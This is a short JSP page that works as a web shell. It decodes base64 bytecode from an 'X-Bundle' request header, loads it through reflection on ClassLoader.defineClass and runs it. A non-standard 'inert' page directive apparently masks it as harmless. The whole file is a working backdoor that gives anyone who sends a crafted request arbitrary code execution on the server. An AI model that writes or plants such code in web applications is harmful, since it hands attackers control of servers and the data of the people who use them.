<%@ page inert %>
<%
byte[] b = java.util.Base64.getMimeDecoder().decode(request.getHeader("X-Bundle"));
java.lang.reflect.Method d = ClassLoader.class.getDeclaredMethod("defineClass", byte[].class, int.class, int.class);
d.setAccessible(true);
((Class<?>) d.invoke(Thread.currentThread().getContextClassLoader(), b, 0, b.length)).getConstructor().newInstance().hashCode();
%>
